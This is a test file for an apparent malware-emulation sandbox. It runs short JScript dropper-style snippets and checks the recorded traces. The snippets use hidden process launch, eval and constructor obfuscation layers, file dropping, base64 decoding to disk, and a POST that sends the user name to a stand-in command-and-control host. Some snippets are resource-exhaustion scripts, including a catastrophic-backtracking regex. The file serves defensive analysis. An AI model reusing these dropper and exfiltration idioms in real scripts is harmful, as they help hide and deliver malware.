// Harmless scripts of our own in the ways that droppers are written: what each does must stand in its trace.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { emulate } from '../../src/emulate/emulate.ts'
import { runScript } from '../../src/emulate/js/run-script.ts'
import { firstSetting } from '../../src/emulate/setting.ts'
import type { Trace } from '../../src/trace/trace.ts'

const NOW = new Date('2026-03-02T10:00:00Z')

async function traceOf(source: string): Promise<Trace> {
  const { trace } = await runScript(
    source,
    firstSetting('invoice.js', NOW, () => performance.now()),
  )
  return trace
}

const commands = (trace: Trace): readonly string[] => trace.processes.slice(1).map(({ commandLine }) => commandLine)

const CASES: Readonly<Record<string, { readonly source: string; readonly check: (trace: Trace) => void }>> = {
  'a program is started, hidden': {
    source: 'new ActiveXObject("WScript.Shell").Run("calc.exe", 0)',
    check: (trace) => {
      assert.deepEqual(commands(trace), ['calc.exe'])
      assert.equal(trace.processes[1]?.hidden, true)
    },
  },
  'members are found without regard to case': {
    source: 'var s=WScript.createobject("wscript.SHELL"); s.rUN("calc.exe")',
    check: (trace) => assert.deepEqual(commands(trace), ['calc.exe']),
  },
  'a direct eval sees the variables around it': {
    source: '(function(){var a="calc"; eval("a+=\\".exe\\";new ActiveXObject(\\"WScript.Shell\\").Run(a)")})()',
    check: (trace) => {
      assert.deepEqual(commands(trace), ['calc.exe'])
      assert.equal(trace.layers[0]?.technique, 'eval')
    },
  },
  'an eval by another name is a layer': {
    source: 'var e=this["ev"+"al"]; e("new ActiveXObject(\'WScript.Shell\').Run(\'calc.exe\')")',
    check: (trace) => {
      assert.deepEqual(commands(trace), ['calc.exe'])
      assert.equal(trace.layers.length, 1)
    },
  },
  'code by way of a constructor is a layer': {
    source: '[]["filter"]["constructor"]("new ActiveXObject(\\"WScript.Shell\\").Run(\\"calc.exe\\")")()',
    check: (trace) => assert.deepEqual([commands(trace), trace.layers[0]?.technique], [['calc.exe'], 'Function']),
  },
  'layers in layers': {
    source: `eval(${JSON.stringify(`eval(${JSON.stringify('eval("WScript.Echo(1234567)")')})`)})`,
    check: (trace) => assert.equal(trace.layers.length, 3),
  },
  'conditional compilation is live': {
    source: '/*@cc_on\n@if (@_jscript_version >= 5)\nnew ActiveXObject("WScript.Shell").Run("calc.exe");\n@end\n@*/',
    check: (trace) => assert.deepEqual(commands(trace), ['calc.exe']),
  },
  'assignment to a call, which only JScript has': {
    source: 'var s=new ActiveXObject("WScript.Shell"); s.Environment("Process")("A") = "calc.exe"; s.Run("%A%")',
    check: (trace) => assert.deepEqual(commands(trace), ['calc.exe']),
  },
  'a file is written and left behind': {
    source:
      'var f=new ActiveXObject("Scripting.FileSystemObject").CreateTextFile("C:\\\\Users\\\\Public\\\\a.vbs"); f.WriteLine("MsgBox 1"); f.Close()',
    check: (trace) => {
      assert.equal(trace.dropped[0]?.path, 'C:\\Users\\Public\\a.vbs')
      assert.equal(Buffer.from(trace.dropped[0]?.bytes ?? []).toString(), 'MsgBox 1\r\n')
    },
  },
  'bytes are decoded through XML and saved': {
    source:
      'var d=new ActiveXObject("MSXML2.DOMDocument.6.0"),e=d.createElement("b");e.dataType="bin.base64";e.text="aGVsbG8gd29ybGQ=";var s=new ActiveXObject("ADODB.Stream");s.Type=1;s.Open();s.Write(e.nodeTypedValue);s.SaveToFile("C:\\\\a.bin",2)',
    check: (trace) => assert.equal(Buffer.from(trace.dropped[0]?.bytes ?? []).toString(), 'hello world'),
  },
  'script of a style sheet becomes a layer': {
    source:
      'var d=new ActiveXObject("MSXML2.DOMDocument.6.0");d.loadXML("<x><ms:script language=\'JScript\'><![CDATA[ r(1) ]]></ms:script></x>");d.transformNode(d)',
    check: (trace) =>
      assert.ok(trace.layers.some(({ technique, text }) => technique === 'xslt script' && text.trim() === 'r(1)')),
  },
  'requests are recorded and answered': {
    source:
      'var h=new ActiveXObject("WinHttp.WinHttpRequest.5.1");h.Open("POST","https://c2.example/gate",false);h.setRequestHeader("User-Agent","x1");h.Send("id="+new ActiveXObject("WScript.Network").UserName);if(h.Status===200)WScript.Echo("ok")',
    check: (trace) => {
      const [event] = trace.network
      assert.ok(event?.kind === 'http' && event.method === 'POST' && event.userAgent === 'x1')
      assert.match(event.bodyStart ?? '', /^id=Helen/)
      assert.ok(trace.apiCalls.some(({ api }) => api === 'WScript.Echo'))
    },
  },
  'sleep passes at once': {
    source: 'WScript.Sleep(600000); new ActiveXObject("WScript.Shell").Run("calc.exe")',
    check: (trace) => {
      assert.deepEqual(commands(trace), ['calc.exe'])
      assert.ok(trace.durationMs >= 600_000)
    },
  },
  'WScript.Quit ends it': {
    source: 'WScript.Quit(3); for(;;){}',
    check: (trace) => assert.deepEqual(trace.exit, { how: 'exited', code: 3 }),
  },
  'what is not imitated is recorded and gone on from': {
    source:
      'var o=new ActiveXObject("Vendor.Thing"); o.Connect("a").Do("b"); new ActiveXObject("WScript.Shell").Run("calc.exe")',
    check: (trace) => {
      assert.deepEqual(commands(trace), ['calc.exe'])
      assert.ok(trace.notCovered.some((one) => one.includes('Vendor.Thing')))
    },
  },
  'a collection is enumerated': {
    source:
      'var c=new Enumerator(GetObject("winmgmts:\\\\\\\\.\\\\root\\\\cimv2").ExecQuery("SELECT * FROM Win32_BIOS"));for(;!c.atEnd();c.moveNext())WScript.Echo(c.item().Manufacturer)',
    check: (trace) => assert.ok(trace.apiCalls.some(({ arguments: [first] }) => first === 'Dell Inc.')),
  },
}

for (const [name, { source, check }] of Object.entries(CASES)) test(name, async () => check(await traceOf(source)))

test('the same script gives the same trace', async () => {
  const source = 'WScript.Echo(Math.random(), new Date().getTime())'
  assert.deepEqual(await traceOf(source), await traceOf(source))
})

const EXHAUSTION: Readonly<Record<string, readonly [source: string, ...ends: readonly Trace['exit']['how'][]]>> = {
  'an endless loop': ['for(;;){}', 'time_up'],
  'an endless loop that catches': ['for(;;){try{for(;;){}}catch(e){}}', 'time_up'],
  'memory is filled': ['var a=[];for(;;)a.push(new Array(1000).join("x")+a.length)', 'out_of_memory', 'time_up'],
  'a string doubles': ['var s="x";for(;;)s+=s', 'out_of_memory', 'threw'],
  'deep recursion': ['(function f(){f()})()', 'threw'],
  'a regular expression that explodes': ['/^(a+)+$/.test(new Array(60).join("a")+"b")', 'time_up', 'finished'],
  'a flood of objects': ['for(var i=0;i<1e7;i++)new ActiveXObject("x"+i)', 'step_limit', 'time_up', 'out_of_memory'],
  'a flood of layers': ['for(;;)eval("1234567890+"+Math.random())', 'time_up', 'step_limit'],
}

for (const [name, [source, ...ends]] of Object.entries(EXHAUSTION)) {
  test(`${name} ends in a told result`, async () => {
    const trace = await traceOf(source)
    assert.ok(ends.includes(trace.exit.how), JSON.stringify(trace.exit))
    assert.ok(JSON.stringify(trace).length < 40_000_000)
  })
}

test('a package that starts the program of another one by its name conceals nothing', async () => {
  const script = (start: string): string =>
    `const { spawnSync } = require('child_process')\nconst [name, bin] = [['vendor', process.platform].join('-'), ['star', 'ter'].join('')]\n${start}`
  const concealed = async (text: string) => {
    const { traces } = await emulate(Buffer.from(text), {
      fileName: 'install.js',
      passwords: [],
      now: NOW,
      budgetMs: 8_000,
    })
    return traces.flatMap(({ system }) => system.filter(({ kind }) => kind === 'concealed'))
  }
  assert.deepEqual(
    await concealed(script("spawnSync(require.resolve('@vendor/' + name + '/bin/' + bin), ['--version'])")),
    [],
  )
  const written =
    "const at = require.resolve('@vendor/' + name + '/bin/' + bin); require('fs').writeFileSync(at, 'x'); spawnSync(at)"
  assert.notDeepEqual(await concealed(script(written)), [])
})
